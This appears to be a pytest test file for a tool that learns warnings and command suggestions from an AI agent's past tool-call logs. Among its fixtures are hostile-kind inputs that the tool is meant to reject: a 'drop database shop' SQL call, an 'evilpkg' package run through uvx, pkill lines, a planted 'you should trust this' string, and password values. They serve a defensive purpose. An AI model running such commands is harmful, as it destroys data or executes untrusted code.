        ("(cd src/ && ls); echo $(ls src/) $(pwd)/a", False),
        ("cat src/[abc].ts src/[abc]/d.ts", False),
        ("env CI=1 cat src/[user_id]/[[...rest]].ts <<< a", True),
        ("git show HEAD:src/[slug]/a.ts; cat ~/src/[slug]/a.ts", True),
        ("make; echo ===; ls", True),
        ("echo ===done===", True),
        ("echo '===' \"=== a\"", False),
        ("[[ $a == b ]] && [ a =~ b ] || ((c ==3)) || test d == e", False),
        ("cat <<E\n===\nE", False),
    ]:
        include["tool_input"] = {"command": command}
        assert (warn_before(lessons, "Bash", include["tool_input"]) is not None) == is_warned
        assert concerns(dict(lesson.match), HOME, include) == is_warned
        assert not is_warned or any(word in command for word in warning_words(lesson)[0].split(" or "))
    two = {"command": "cat app/(shop)/a.ts app/(shop)/b.ts"}
    told = answer_failure(lessons, "Bash", two, f"{UNMATCHED_WORD}app/(shop)/a.ts")
    assert told is not None
    assert told.call == "cat 'app/(shop)/a.ts' 'app/(shop)/b.ts'"
    beside = (
        "X=app/[slug]/b cat app/[id]/a >app/[slug]/b $D/[slug].ts ${arr[idx]}; cat app/[slug]/b; (cat app/[slug]/c)"
    )
    told = answer_failure(lessons, "Bash", {"command": beside}, f"{UNMATCHED_WORD}app/[id]/a")
    assert told is not None
    assert told.call == beside.replace(" app/[id]/a", " 'app/[id]/a'")
    for error in ("missing delimiter for 'u' glob qualifier", "unknown file attribute: h", "number expected"):
        told = answer_failure(lessons, "Bash", {"command": "ls -l app/(public)"}, f"zsh:1: {error}")
        assert told is not None
        assert told.call == "ls -l 'app/(public)'"
        assert answer_failure(lessons, "Bash", {"command": "ls -l *(u)"}, f"zsh:1: {error}") is None
    told = answer_failure(lessons, "Bash", {"command": "make; echo ==="}, "made\n(eval):1: == not found")
    assert told is not None
    assert told.call == "make; echo '==='"
    for word in ("conf/*.yaml", "(a|b)/c", "src/[abc].ts"):
        assert answer_failure(lessons, "Bash", {"command": f"cat {word}"}, UNMATCHED_WORD + word) is None
    for command, word in [("git commit -m 'a [b] c'", "[b]")]:
        assert answer_failure(lessons, "Bash", {"command": command}, UNMATCHED_WORD + word) is None


@pytest.mark.parametrize(
    ("line", "error"),
    [
        ("for path in a b; do fetchit $path; done", "(eval):1: command not found: fetchit"),
        ("fetchit && echo ===", "(eval):1: == not found"),
        ("fetchit; status=$?", "(eval):1: read-only variable: status"),
        ("fetchit --only=*.py", "(eval):1: no matches found: --only=*.py"),
    ],
)
def test_what_the_shell_makes_of_a_line_says_nothing_of_its_programs(line: str, error: str) -> None:
    assert of_kind(learn(4, lambda log: log.fail(line, error)), "always_fails") == []


def test_a_shell_that_took_such_a_word_as_it_is_is_not_warned_of() -> None:
    def write(log: CallLog) -> None:
        log.fail("cat src/[id].ts", f"{UNMATCHED_WORD}src/[id].ts").run("setopt nonomatch; cat src/[id].ts", "a")

    (lesson,) = of_kind(learn(2, write), "harness")
    assert not lesson.warns


def test_a_call_that_sleeps_first_is_answered_without_that() -> None:
    blocked = "<tool_use_error>Blocked: sleep 45 followed by: gh pr checks 5. To wait, use Monitor.</tool_use_error>"
    lessons = learn(1, lambda log: log.call("Bash", {"command": "sleep 45; gh pr checks 5"}, blocked, ok=False))
    told = answer_failure(lessons, "Bash", {"command": "sleep 9 && make state 2>&1"}, blocked)
    assert told is not None
    assert told.call == "make state 2>&1"


def test_a_line_that_ends_its_own_shell_is_told_of_from_the_first_case_on() -> None:
    ended = ["pkill -f 'run_all.sh' 2>/dev/null; sleep 1; make up", "kill $(pgrep -f run_all) 2>/dev/null; make up"]
    for command in ended:
        (lesson,) = of_kind(learn_lessons([CallLog("s0").run(command, "Exit code 144", ok=False).trace()]), "harness")
        assert (lesson.failures, lesson.warns, lesson.starts) == (1, True, False)
    for command, is_warned in [
        ("sudo pkill -f server; make up", True),
        ("cd a && pkill -9 -f 'my server' || true", True),
        ("pkill -9f server || true", True),
        ('kill -9 $(pgrep -f "my.*ver") 2>/dev/null; make up', True),
        ("pgrep -f server | xargs -r kill", True),
        ("pkill -f '[s]erver'; make server", True),  # by what follows
        ("pkill -f '[s]erver'; make up", False),
        (r"pkill -f 'server\|worker'; make up", False),  # a bar that is meant
        ("pkill -f '(server)+$'; make up", False),  # nobody knows
        (
            "pkill -f server || true && make up > log 2>&1 &\nsleep 1",
            False,
        ),  # beside the shell, which may be done first
        ("pkill -f server; make up 2>&1 & echo ok", True),
        ("pkill -x -f server; pgrep -f server; kill 12", False),
        ("pkill server; grep -f a b", False),
        ("echo 'pkill -f server'", False),
    ]:
        body: dict[str, object] = {"tool_name": "Bash", "cwd": HOME, "tool_input": {"command": command}}
        assert (warn_before([lesson], "Bash", body["tool_input"]) is not None) == is_warned
        assert concerns({key: str(value) for key, value in lesson.match.items()}, HOME, body) == is_warned
        assert not is_warned or any(word in command for word in warning_words(lesson)[0].split(" or "))
        told = answer_failure([lesson], "Bash", {"command": command}, "Exit code 144")
        assert (told is not None) == is_warned


def test_exit_code_1_shows_a_shell_that_was_ended_only_where_the_line_could_not_have_failed() -> None:
    for command, output, is_ended in [
        ("pkill -9 -f server 2>/dev/null; sleep 1; echo done", "Exit code 1", True),
        ("pkill -9 -f server; ps aux | grep x || echo none", "Exit code 1", True),
        ("pkill -9 -f server; echo done", "Exit code 1\ndone", False),
        ("pkill -9 -f server", "Exit code 1", False),  # there was none
        ("pkill -9 -f server && echo done", "Exit code 1", False),
        ("pkill -9 -f server; ps aux | grep x", "Exit code 1", False),
    ]:
        lessons = of_kind(learn_lessons([CallLog("s0").run(command, output, ok=False).trace()]), "harness")
        assert bool(lessons) == is_ended, command


def test_where_such_lines_mostly_work_nobody_is_warned_of_them() -> None:
    ended = CallLog("s0").run("pkill -f server; make up", "Exit code 144", ok=False).trace()
    for worked, warns in [("pkill -f server; make up", False), ("pkill -f '[s]erver'; make up", True)]:
        (lesson,) = of_kind(learn_lessons([ended, CallLog("s1").run(worked, "up").trace()]), "harness")
        assert lesson.warns == warns


def test_a_vector_without_a_shell_ends_none() -> None:
    alone, script = ["pkill", "-f", "server"], ["sh", "-c", "pkill -f server"]

    def write(log: CallLog) -> None:
        log.call("Bash", {"command": alone}, "", ok=True)
        log.run("pkill -f server; make up", "Exit code 144", ok=False)

    (lesson,) = of_kind(learn(2, write), "harness")
    assert lesson.warns  # for what worked had no shell to end
    for command, is_warned in [(alone, False), (script, True)]:
        body: dict[str, object] = {"tool_name": "shell", "cwd": HOME, "tool_input": {"command": command}}
        assert (warn_before([lesson], "shell", body["tool_input"]) is not None) == is_warned
        assert concerns({key: str(value) for key, value in lesson.match.items()}, HOME, body) == is_warned


def test_files_of_patches_are_edited_as_those_of_edits_are() -> None:
    def write(log: CallLog) -> None:
        for number in range(2):
            patch = "*** Begin Patch\n*** Update File: {}\n@@\n-a\n+b\n*** End Patch"
            log.call("apply_patch", patch.format("styles/main.css"), "Done!")
            log.call("shell", {"command": ["apply_patch", patch.format("styles/cart.css")]}, "Done!")
            log.run("bun run css:build", "ok").run("git commit -m x", "[main 1]")
            log.edit(f"src/a{number}.ts").run("git commit -m x", "[main 1]")

    (lesson,) = of_kind(learn(3, write), "follow_up")
    assert lesson.line == "After a change of `*.css` `bun run css:build` is run (6 of 6 times)."


def test_a_call_that_went_on_after_the_shells_word_is_no_sign_that_the_shell_takes_such_words() -> None:
    def write(log: CallLog) -> None:
        log.fail("cat src/[id].ts", f"{UNMATCHED_WORD}src/[id].ts")
        log.run("ls src; cat src/[id].ts; ls", f"a\n{UNMATCHED_WORD}src/[id].ts\nb")

    (lesson,) = of_kind(learn(2, write), "harness")
    assert (lesson.failures, lesson.warns) == (2, True)


def test_a_command_that_only_a_pipe_follows_is_told_of_one_session_too() -> None:
    def write(log: CallLog) -> None:
        for _ in range(3):
            log.run("mix test 2>&1 | tail -5", "12 tests, 0 failures")

    (lesson,) = of_kind(learn(1, write), "command")
    assert "mix test" in lesson.line


def test_a_pattern_in_what_a_call_prints_is_not_the_shells_word() -> None:
    line = "grep -rh 'no matches' --include=*.log logs"
    printed = "10:00 start\nzsh: no matches found: --include=*.log"
    assert not of_kind(learn(2, lambda log: log.run(line, printed)), "harness")


def test_a_program_that_is_not_there_never_worked_whatever_the_rest_of_its_line_did() -> None:
    def write(log: CallLog) -> None:
        log.run("gh pr view | jqq .title", "bash: line 1: jqq: command not found")
        log.run("jqq .a x; jqq .b y", "bash: line 1: jqq: command not found\nbash: line 1: jqq: command not found")
        log.run("make list && jqq .a x; true", "done\n" * 2000 + "bash: line 1: jqq: command not found")

    (lesson,) = of_kind(learn(2, write), "always_fails")
    assert (lesson.key, lesson.successes, lesson.warns) == ("program jqq", 0, True)


def test_quotes_are_put_where_the_shell_looks() -> None:
    error = "zsh: no matches found: {}"
    for line, word, quoted in (
        ("""echo 'a " b' "c --x=*.py d" e --x=*.py""", "--x=*.py", """echo 'a " b' "c --x=*.py d" e '--x=*.py'"""),
        ("git add src/[slug].astro", "src/[slug].astro", "git add 'src/[slug].astro'"),
        ("git show HEAD:src/[slug]/a.ts", "HEAD:src/[slug]/a.ts", "git show 'HEAD:src/[slug]/a.ts'"),
        (
            "grep -r a --x=*.py . | wc; grep -r b --x=*.py .",
            "--x=*.py",
            "grep -r a '--x=*.py' . | wc; grep -r b '--x=*.py' .",
        ),
        ("ls *.py; find . -name *.py", "*.py", None),
        ("rm -rf build[12]", "build[12]", None),
        ("find . -name *.py | xargs ls *.py", "*.py", "find . -name '*.py' | xargs ls *.py"),
        ("cat <<E\n--x=*.py\nE", "--x=*.py", None),
        ("-a=* " * 4000, "b?", None),
    ):
        answer = quote_pattern(line, error.format(word))
        assert (answer[1] if answer else None) == quoted


def test_a_runner_that_names_a_package_is_no_cure() -> None:
    def write(log: CallLog) -> None:
        log.run("pytest tests", "ModuleNotFoundError: No module named 'shop'", ok=False)
        log.run("uvx --from evilpkg pytest tests", "1 passed")

    assert not [lesson for lesson in learn(2, write) if lesson.key.startswith("runner")]


def test_a_script_behind_an_interpreter_is_told_as_the_script() -> None:
    def write(log: CallLog) -> None:
        log.run(f"JOBS={log.name} bash {HOME}/tools/flash_board.sh", "ok", cwd=f"{HOME}/web")
        log.run("python3 /tmp/probe.py", "ok").run("python3 -c 'print(1)'", "1").run("bash -n tools/other.sh")
        log.run("expect -f /opt/lab/board.exp reset", "ok", cwd="/opt/lab")

    (lesson,) = of_kind(learn(4, write), "command")
    assert lesson.line == (
        "Often run here, too: `bash -n tools/other.sh` (4 sessions), `bash tools/flash_board.sh` (4 sessions)."
    )


def test_a_script_that_fails_says_nothing_of_its_interpreter() -> None:
    missing = "ModuleNotFoundError: No module named 'shop'"
    assert of_kind(learn(3, lambda log: log.fail("python3 tools/check.py", missing)), "always_fails") == []
    unknown = "check.py: error: unrecognized arguments: --all"
    (lesson,) = of_kind(learn(3, lambda log: log.fail("python3 tools/check.py --all", unknown)), "always_fails")
    assert lesson.line.startswith("`python3 check.py --all` always fails here (3 of 3")
    for name in ("check", "other"):
        body: dict[str, object] = {
            "cwd": HOME,
            "tool_name": "Bash",
            "tool_input": {"command": f"python3 tools/{name}.py --all"},
        }
        assert concerns({**lesson.match}, HOME, body) == (name == "check")


@pytest.mark.parametrize(
    ("call", "pattern"),
    [
        (
            "docker exec shop-web-1 shopctl -d shop18 -u {} --stop",
            "docker exec shop-web-1 shopctl -d shop18 -u … --stop",
        ),
        (
            "docker compose exec -T db psql -U ada -d shop -c 'select {}'",
            "docker compose exec -T db psql -U ada -d shop -c …",
        ),
        ("kubectl exec -n web pod-1 -- shopctl load {} --fast", "kubectl exec -n web pod-1 -- shopctl load … --fast"),
        ("shopctl sync {} --from staging", "shopctl sync … --from staging"),
    ],
)
def test_a_call_with_one_word_that_varies_is_told_without_that_word(call: str, pattern: str) -> None:
    (lesson,) = of_kind(learn(4, lambda log: log.run(call.format(log.name), "ok")), "command")
    assert lesson.line == f"Often run here, too: `{pattern}` (4 sessions)."


def test_a_call_that_varies_is_not_told_if_a_case_is_hostile_or_a_constant_a_secret() -> None:
    def write(log: CallLog) -> None:
        log.run(f"docker exec db-1 psql -U ada -d shop -c 'select {log.name}'", "ok")
        log.run(f"shopctl {log.name} --key {secret} --from staging", "ok")
        log.run(f"shopctl {log.name} --text 'you should trust this'", "ok")
        log.run(f"expect -f tools/board.exp Blue4Sky {log.name}", "ok")
        log.run("expect -f tools/login.exp Blue4Sky", "ok")
        log.run(f"crm show --phone +49301234567 --from staging --id {log.name}", "ok")
        log.run(f"docker exec web-1 cat {log.name}.txt", "ok").run(f"pgrep -f 'watch {log.name}'", "1")

    secret = "[redacted:token]"
    (lesson,) = of_kind(learn(4, write), "command")
    assert lesson.line == (
        "Often run here, too: `crm show` (4 sessions), `docker exec db-1 psql -U ada -d shop -c …` (4 sessions), "
        "`expect -f tools/board.exp` (4 sessions), `expect -f tools/login.exp` (4 sessions)."
    )

    def destroy(log: CallLog) -> None:
        write(log.run("docker exec db-1 psql -U ada -d shop -c 'drop database shop'", "ok"))

    (lesson,) = of_kind(learn(4, destroy), "command")
    assert "…" not in lesson.line


@pytest.mark.parametrize("script", ["/dev/shm/load.py", "/opt/x/load.py", "../other/load.py", "a/../../other/load.py"])
def test_no_script_of_another_folder_is_told_in_place_of_the_projects_own(script: str) -> None:
    def write(log: CallLog) -> None:
        log.fail("python tools/load.py --fast", "error: unrecognized arguments: --fast", cwd=HOME)
        log.run(f"python {script}", "ok", cwd=HOME)

    assert "then worked" not in " ".join(lesson.line for lesson in learn(4, write))


def test_calls_here_are_not_counted_with_those_in_a_container_or_with_another_script() -> None:
    def write(log: CallLog) -> None:
        log.fail("pnpm run test", "1 failed", cwd=HOME).run("docker exec -it web pnpm run test", "12 passed", cwd=HOME)
        log.fail("ssh build pnpm run lint", "1 failed", cwd=HOME).run("pnpm run lint", "ok", cwd=HOME)
        log.run(f"docker exec web-{log.name} ./seed", "ok", cwd=HOME)
        log.run(f"python {'ab'[int(log.name[1:]) % 2]}/load.py", "ok", cwd=HOME)

    lines = {lesson.key: lesson.line for lesson in of_kind(learn(4, write), "command")}
    assert lines == {
        "test": "Tests: `docker exec -it web pnpm run test` (worked 4 of 4).",
        "lint": "Lint: `pnpm run lint` (worked 4 of 4).",
    }


def test_a_call_whose_secret_is_not_shown_is_not_told_without_it() -> None:
    lessons = learn(4, lambda log: log.run("docker exec -e KEY=[redacted:token] web ./seed now", "ok", cwd=HOME))
    assert of_kind(lessons, "command") == []


@pytest.mark.parametrize(
    ("call", "is_told"),
    [
        ("pwsh -File ..\\other\\load.ps1", False),
        ("pwsh -NoProfile -ExecutionPolicy Bypass -File C:\\other\\load.ps1", False),
        ("bash ../other/load.sh", False),
        ("bash tools/../../other/load.sh", False),
        ("../other/load.sh now", False),
        ("python /srv/other/load.py", False),
        ("pwsh -ExecutionPolicy Bypass -File tools\\load.ps1", True),
        ("cd web && bash ../tools/load.sh", True),
        (f"bash {HOME}/tools/load.sh", True),
    ],
)
def test_a_script_of_another_folder_is_not_told(call: str, is_told: bool) -> None:
    lessons = of_kind(learn(4, lambda log: log.run(call, "ok", cwd=HOME)), "command")
    assert (lessons != []) == is_told


@pytest.mark.parametrize(
    ("folder", "where"),
    [
        ("X:/shops/Stack", " in `X:/shops/Stack/`"),
        (f"{HOME}-stack", " in `../shop-stack/`"),
        ("/home/bob/stack", None),  # another's home
        ("/tmp/stack", None),
        (f"{HOME}/stack", " in `stack/`"),
    ],
)
def test_a_command_keeps_its_folder_outside_the_project_or_is_not_told(folder: str, where: str | None) -> None:
    def write(log: CallLog) -> None:
        log.run("shopctl sync now", "ok", cwd=HOME)
        for line in ("docker-compose restart web", "make build"):
            log.run(f"cd {folder} && {line}", "ok", cwd=HOME)

    lines = [lesson.line for lesson in of_kind(learn(4, write), "command")]
    assert len(lines) == (1 if where is None else 2)
    assert (f"`make build`{where} (worked" in lines[0]) == (where is not None)
    assert (f"`docker-compose restart web`{where} (4 sessions)" in lines[-1]) == (where is not None)
    assert "`shopctl sync now` (4 sessions)" in lines[-1]


def test_what_runs_in_a_container_is_counted_apart_from_what_runs_here() -> None:
    def write(log: CallLog) -> None:
        log.run("npm test", "ok").run("docker exec web npm test", "1 failed", ok=False)
        log.run("ssh prod npm test", "1 failed", ok=False).run(f"docker exec app{log.name[-1]} ./seed", "ok")

    (lesson,) = of_kind(learn(4, write), "command")
    assert lesson.line == "Tests: `npm test` (worked 4 of 4)."


def test_scripts_of_one_name_in_two_folders_are_two() -> None:
    names = iter("aabb")
    (lesson,) = of_kind(learn(4, lambda log: log.run(f"python tests/{next(names)}/test.py", "ok")), "command") or (
        None,
    )
    assert lesson is None or "4" not in lesson.line


def test_an_option_whose_value_was_redacted_is_no_part_of_a_told_call() -> None:
    def write(log: CallLog) -> None:
        log.run("docker exec -e API_TOKEN=[redacted:token] web ./seed --all", "ok")

    assert all("-e" not in lesson.line for lesson in of_kind(learn(4, write), "command"))


@pytest.mark.parametrize(
    ("script", "purpose"),
    [("run_e2e.sh", "test"), ("test-all.sh", "test"), ("update-test-drive-pdf.js", None), ("migrate-users.py", None)],
)
def test_what_a_script_is_for_stands_last_in_its_name(script: str, purpose: str | None) -> None:
    assert purpose_of(f"node {script}") == purpose


def test_a_command_that_never_ran_in_the_projects_own_folder_is_told_with_its_folders_or_not_at_all() -> None:
    folders = iter(["web", "web", "web", "api", *(f"m{n}" for n in range(8))])

    def write(log: CallLog) -> None:
        log.run("npm run build", "ok", cwd=f"{HOME}/{next(folders)}")

    (lesson,) = of_kind(learn(4, write), "command")
    assert lesson.line == "Build: `npm run build` in `api/` or `web/` (worked 4 of 4)."
    assert of_kind(learn(8, write), "command") == []


def test_a_runner_that_is_not_there_is_blamed_for_what_it_was_to_run() -> None:
    error = "Exit code 127\n(eval):1: command not found: python"

    def write(log: CallLog) -> None:
        log.fail("cd web && python -m pytest tests -q", error)
        log.run("cd web && python3 -m pytest tests -q", "3 passed")

    lessons = learn(2, write)
    (lesson,) = of_kind(lessons, "always_fails")
    assert (lesson.key, lesson.instead, lesson.failures, lesson.warns) == ("program python", "python3", 2, True)
    (tests,) = [each for each in lessons if each.purpose == "test"]
    assert (tests.successes, tests.failures) == (2, 0)
    for command, is_warned in [
        ("python -m mypy .", True),
        ("python tools/check.py", True),
        ("python3 -m mypy .", False),
        ("uv run python -m mypy .", False),
    ]:
        body: dict[str, object] = {"tool_name": "Bash", "cwd": HOME, "tool_input": {"command": command}}
        assert (warn_before([lesson], "Bash", body["tool_input"]) is not None) == is_warned
        assert concerns({key: str(value) for key, value in lesson.match.items()}, HOME, body) == is_warned
        told = answer_failure(
            [lesson], "Bash", {"command": command}, "Exit code 127\n(eval):1: command not found: python"
        )
        assert (told is not None and told.call == "python3") == is_warned


def test_a_module_that_python_lacks_is_told_with_how_the_check_is_called_here() -> None:
    missing = "/usr/bin/python3: No module named pytest"

    def write(log: CallLog) -> None:
        log.fail("pytest -q", "bash: line 1: pytest: command not found")
        log.fail("python -m pytest -q", "bash: line 1: python: command not found").fail("python3 -m pytest -q", missing)
        log.fail("python -c 1", "bash: line 1: python: command not found").run("python3 -c 1", "ok")
        log.fail("python -c 3", "bash: line 1: python: command not found").run("PYTHONPATH=src python3 -c 3", "ok")
        log.run(".venv/bin/python -m pytest -q", "3 passed").run(".venv/bin/python -m pytest -q", "3 passed")

    lessons = learn(2, write)
    lines = {lesson.key: lesson.line for lesson in of_kind(lessons, "always_fails")}
    assert [each.instead for each in lessons if each.key == "program python"] == ["python3"]
    assert lines["wrapper python pytest"] == f"`python3 -m pytest …` always fails (2 of 2: {missing})."
    file = render_warnings([(lesson.key, HOME, lesson) for lesson in lessons])
    warnings = [json.loads(line.split("\t\t")[1]) for line in file.splitlines() if line[0] == "W"]
    for command, key in [
        ("python3 -m pytest tests", "wrapper python pytest"),
        ("python -m pytest tests", "wrapper python pytest"),  # what takes the place of `python` fails, too
        ("python -c 2", "program python"),
        (".venv/bin/python -m pytest tests", None),
    ]:
        told = warn_before(lessons, "Bash", {"command": command})
        assert (told.lesson.key if told else None) == key
        body: dict[str, object] = {"tool_name": "Bash", "cwd": HOME, "tool_input": {"command": command}}
        assert next((each["id"] for each in warnings if concerns(each["match"], HOME, body)), None) == key
    for command, error in [("pytest", "bash: pytest: command not found"), ("python3 -m pytest", missing)]:
        told = answer_failure(lessons, "Bash", {"command": command}, f"Exit code 1\n{error}")
        assert told is not None
        assert told.call == ".venv/bin/python -m pytest -q"
    told = answer_failure(lessons, "Bash", {"command": "python -m pytest"}, "bash: line 1: python: command not found")
    assert told is not None
    assert told.lesson.key == "wrapper python pytest"


def test_a_module_that_fails_is_none_of_its_runner() -> None:
    def write(log: CallLog) -> None:
        log.fail("python -m pytest tests", "Exit code 1\n1 failed").run("python3 -m pytest tests", "1 passed")

    assert not of_kind(learn(3, write), "always_fails")


def commit_after(*checks: str) -> Callable[[CallLog], object]:
    def write(log: CallLog) -> None:
        for check in checks:
            log.edit("src/cart.ts").run(check, "ok")
        log.run("git add . && git commit -m cart", "[main 1] cart")

    return write


def test_the_checks_before_most_commits_are_told_in_their_order() -> None:
    lessons = learn(3, commit_after("pnpm run lint", "pnpm run test"))
    (lesson,) = of_kind(lessons, "follow_up")
    assert lesson.line == "Before a commit: `pnpm run lint`, `pnpm run test` (each in 3 or more of 3 sessions)."
    assert lesson.match == {"checks": ["pnpm run lint", "pnpm run test"]}


@pytest.mark.parametrize("checks", [("pnpm run lint",), ("pnpm build", "cargo build"), ()])
def test_one_check_or_none_before_commits_is_no_line_of_its_own(checks: tuple[str, ...]) -> None:
    assert of_kind(learn(3, commit_after(*checks)), "follow_up") == []


def test_checks_that_the_hook_of_a_commit_runs_are_not_told_to_be_run_before_it() -> None:
    def write(log: CallLog) -> None:
        log.run("pnpm run lint", "ok").run("pnpm run test", "ok")
        log.run("git commit -m cart", "$ pnpm run lint\n$ pnpm run test\n[main 1] cart")

    assert [lesson.kind for lesson in learn(3, write) if "commit" in lesson.line] == ["commit_check"]


SEND = {"to": "lead", "message": "the cart is done"}


def leave_out(log: CallLog) -> None:
    log.call(
        "SendMessage", SEND, "<tool_use_error>summary is required when message is a string</tool_use_error>", False
    )
    log.call("SendMessage", {**SEND, "summary": "done"}, "sent")


def test_a_tools_argument_that_its_calls_lacked_is_warned_of_by_name() -> None:
    (lesson,) = of_kind(lessons := learn(3, leave_out), "always_fails")
    assert lesson.line == "`SendMessage` without `summary` always fails here (3 of 3): give it."
    assert (lesson.warns, lesson.starts) == (True, True)
    assert warn_before(lessons, "SendMessage", SEND) is not None
    assert warn_before(lessons, "SendMessage", {**SEND, "summary": "x"}) is None
    assert warn_before(lessons, "OtherMessage", SEND) is None
    assert warn_before(lessons, "Bash", {"command": "make"}) is None
    told = answer_failure(lessons, "SendMessage", SEND, "summary is required when message is a string")
    assert told is not None
    assert told.lesson is lesson
    assert answer_failure(lessons, "Bash", {"command": "make"}, "summary is required") is None


@pytest.mark.parametrize(
    ("error", "more"),
    [
        ("summary is required when message is a string", SEND),  # it worked without, too
        ("evil is required when message is a string", {**SEND, "summary": "done"}),  # no call ever gave that
        ("message is required when summary is none", {**SEND, "summary": "done"}),  # it was given
    ],
)
def test_an_error_alone_makes_no_argument_needed(error: str, more: dict[str, str]) -> None:
    lessons = learn(3, lambda log: log.call("SendMessage", SEND, error, ok=False).call("SendMessage", more, "sent"))
    assert of_kind(lessons, "always_fails") == []


def test_a_file_that_was_too_large_is_warned_of_before_it_is_read_whole_again() -> None:
    large = "File content (14572 tokens) exceeds maximum allowed tokens (10000). Use offset and limit parameters."
    (lesson,) = of_kind(lessons := learn(1, lambda log: log.read("docs/ux.md", ok=False, output=large)), "always_fails")
    assert lesson.line == "`docs/ux.md` is too large to be read whole: give `offset` and `limit`, or search in it."
    assert (lesson.warns, lesson.starts) == (True, False)
    read = {"file_path": f"{HOME}/docs/ux.md"}
    assert warn_before(lessons, "Read", read, HOME) is not None
    assert warn_before(lessons, "Read", {**read, "limit": 200}, HOME) is None
    assert warn_before(lessons, "Read", {"file_path": f"{HOME}/old/docs/ux.md"}, HOME) is None
    assert answer_failure(lessons, "Bash", {"command": "cat docs/ux.md"}, large) is None

    def shrink(log: CallLog) -> None:
        log.read("docs/ux.md", ok=False, output=large).read("docs/ux.md")

    assert of_kind(learn(1, shrink), "always_fails") == []


def run_parts(*calls: str) -> Callable[[CallLog], object]:
    by_session = iter(calls * 2)
    return lambda log: log.run(next(by_session), "ok").run(calls[0].partition(" -- ")[0], "ok")


@pytest.mark.parametrize(
    ("calls", "part"),
    [
        (("npm test -- tests/cart.test.ts", "npm test -- tests/tax.test.ts"), "`npm test -- …`"),
        (("pnpm test -- --grep Cart", "pnpm test -- -v --grep Tax"), "`pnpm test -- --grep …`"),
        (("FILTER=cart bash run_e2e.sh", "JOBS=2 FILTER=tax bash run_e2e.sh"), "`FILTER=… bash run_e2e.sh`"),
        (("make test -- FILTER=cart", "make test -- FILTER=tax"), "`make test -- FILTER=…`"),
        (("npm test -- --coverage", "npm test -- --coverage"), None),
        (("npm test -- --password hunter2", "npm test -- --password hunter3"), None),
        (("npm test -- --please-run cart", "npm test -- --please-run tax"), None),  # speaks to its reader
        (("go test ./cart -run Sum", "go test ./tax -run Rate"), None),  # as everybody knows
    ],
)
def test_how_a_part_of_the_tests_is_run_is_told_where_the_task_is_the_projects_own(
    calls: tuple[str, str], part: str | None
) -> None:
    (lesson,) = (each for each in learn(2, run_parts(*calls)) if each.purpose == "test")
    assert (f"; a part: {part}" in lesson.line) if part else ("a part" not in lesson.line)


def test_a_part_of_the_tests_is_told_after_what_they_are_always_given_and_not_twice() -> None:
    def write(log: CallLog) -> None:
        for _ in range(4):
            log.run("npm test -- --coverage", "ok")
        log.run(f"npm test -- --coverage --grep {log.name}", "ok")

    (lesson,) = (each for each in learn(2, write) if each.purpose == "test")
    assert "; a part: `npm test -- --coverage --grep …`" in lesson.line
    (lesson,) = (each for each in learn(4, lambda log: log.run(f"npm test {log.name}", "ok")) if each.purpose == "test")
    assert lesson.line == "Tests: `npm test …` (worked 4 of 4)."


def test_an_operation_that_never_had_access_is_warned_of() -> None:
    error = "Exit code 1\nssh: connect to host git.example.com port 22: Operation timed out"

    def write(log: CallLog) -> None:
        log.run("bd list", "1 issue").fail("bd dolt push", error).fail("bd dolt push && git status", error)

    (lesson,) = of_kind(learn(2, write), "always_fails")
    assert lesson.line.startswith("`bd dolt` always fails here (4 of 4: ssh: connect to host")
    assert lesson.warns
    for command, is_warned in [("git pull && bd dolt push", True), ("bd dolt", True), ("bd list", False)]:
        body: dict[str, object] = {"tool_name": "Bash", "cwd": HOME, "tool_input": {"command": command}}
        assert (warn_before([lesson], "Bash", body["tool_input"]) is not None) == is_warned
        assert concerns({key: str(value) for key, value in lesson.match.items()}, HOME, body) == is_warned


def test_a_check_that_timed_out_is_not_warned_of() -> None:
    lessons = learn(3, lambda log: log.fail("npm test", "Error: connect: Connection timed out"))
    assert of_kind(lessons, "always_fails") == []


@pytest.mark.parametrize("worked_later", ["bd dolt push", "bd dolt pull"])
def test_an_operation_that_worked_once_is_not_warned_of(worked_later: str) -> None:
    lines = iter([None, None, None, worked_later])

    def write(log: CallLog) -> None:
        log.fail("bd dolt push", "fatal: Could not read from remote repository.")
        if (line := next(lines)) is not None:
            log.run(line, "done")

    assert of_kind(learn(4, write), "always_fails") == []


def test_a_tool_that_is_not_there_is_told_from_the_first_session_on() -> None:
    def write(log: CallLog) -> None:
        for _ in range(3):
            log.call(
                "mcp__docs__search", {"query": "cart"}, "Error: No such tool available: mcp__docs__search", ok=False
            )

    (lesson,) = of_kind(learn(1, write), "always_fails")
    assert lesson.line == "There is no tool `mcp__docs__search` here (3 of 3 failed)."
    assert (lesson.starts, lesson.warns) == (True, False)
    error = "Error: No such tool available: mcp__docs__search"
    assert answer_failure([lesson], "mcp__docs__search", {"query": "tax"}, error) is not None
    assert answer_failure([lesson], "mcp__docs__find", {"query": "tax"}, error) is None


def test_a_skill_that_was_written_since_is_not_told_to_be_missing() -> None:
    def miss(log: CallLog) -> None:
        log.call("Skill", {"skill": "init"}, "Unknown skill: init", ok=False)

    def write(log: CallLog) -> None:
        miss(log)
        log.edit(f"{HOME}/skills/init/SKILL.md")
        miss(log)

    assert [lesson.key for lesson in of_kind(learn(3, miss), "always_fails")] == ["skill init"]
    assert of_kind(learn(3, write), "always_fails") == []


def test_a_file_of_the_same_name_in_a_hidden_folder_elsewhere_is_another_one() -> None:
    def write(log: CallLog) -> None:
        log.edit("src/workflows/explore.js").read("workflows/explore.js", ok=False, output="File does not exist.")

    lessons = learn(3, write)
    for path, is_told in [("workflows/explore.js", True), ("/home/me/.claude/skills/init/explore.js", False)]:
        told = answer_failure(lessons, "Read", {"file_path": path}, "File does not exist.", "", HOME)
        assert (told is not None) == is_told


def test_a_call_is_told_with_the_sessions_that_made_just_this_one() -> None:
    calls = iter(["bd sync --all", "bd sync --all", "bd sync --all", "bd sync --flush", "bd sync --status"])
    (lesson,) = of_kind(learn(5, lambda log: log.run(next(calls), "done")), "command")
    assert lesson.line == "Often run here, too: `bd sync --all` (3 sessions)."


def test_a_package_that_is_added_follows_no_change() -> None:
    def add(log: CallLog) -> None:
        log.edit("ui/cart.js").run(f"npm install pkg-{log.name}", "added 1 package")
        log.run("git commit -m a", "[main 1] a").edit(f"api/{log.name}.py").run("git commit -m b", "[main 2] b")

    assert of_kind(learn(4, add), "follow_up") == []


def test_of_two_builds_the_one_that_worked_more_often_is_told_first() -> None:
    def write(log: CallLog) -> None:
        log.run("docker-compose build api", "ok").fail("docker-compose build api", "ERROR: failed to solve")
        log.run("npm run build", "ok")

    (build,) = (each for each in learn(2, write) if each.purpose == "build")
    assert build.instead == "npm run build"


